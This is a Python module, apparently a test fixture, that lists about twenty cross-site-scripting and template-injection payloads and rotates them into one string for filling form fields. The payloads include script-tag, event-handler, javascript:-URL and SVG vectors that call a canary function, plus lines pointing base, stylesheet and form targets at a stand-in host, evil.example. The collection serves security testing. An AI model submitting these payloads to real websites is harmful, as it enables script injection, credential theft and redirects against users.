"""Markup that calls `__xss` as soon as any browser takes it for markup."""

PAYLOADS = (
    "<script>__xss('script')</script>",
    "<img src=x onerror=__xss('img')>",
    "<svg/onload=__xss('svg')>",
    "<svg><animate onbegin=__xss('smil') attributeName=x dur=1s>",
    "\"><iframe srcdoc='<script>parent.__xss(1)</script>'>",
    "' autofocus onfocus=__xss('focus') x='",
    "\" autofocus onfocus=__xss('focus') x=\"",
    "</textarea><script>__xss('textarea')</script>",
    "</title></style></script><script>__xss('raw')</script>",
    "<a href=javascript:__xss('href')>x</a>",
    "<details open ontoggle=__xss('details')>",
    "<base href=//evil.example/>",
    "<link rel=stylesheet href=//evil.example/x.css>",
    "<form action=//evil.example/><button>x</button></form>",
    "<meta http-equiv=refresh content='0;url=javascript:__xss(1)'>",
    "{{ 7*7 }}${7*7}<%= 7*7 %>",
    "\u003cscript\u003e__xss('escaped')\u003c/script\u003e",
    "<<script>alert(1)//<</script>",
    "-->]]><script>__xss('comment')</script>",
    "`${__xss('template')}`",
)
"""What the OWASP cheat sheets on evading filters and on the DOM begin with."""


def markup(turn: int = 0) -> str:
    """Return all of it in one text, beginning with another one for each field.

    Fields are cut to size: what stands first differs.
    """
    turn %= len(PAYLOADS)
    return "".join(PAYLOADS[turn:] + PAYLOADS[:turn])
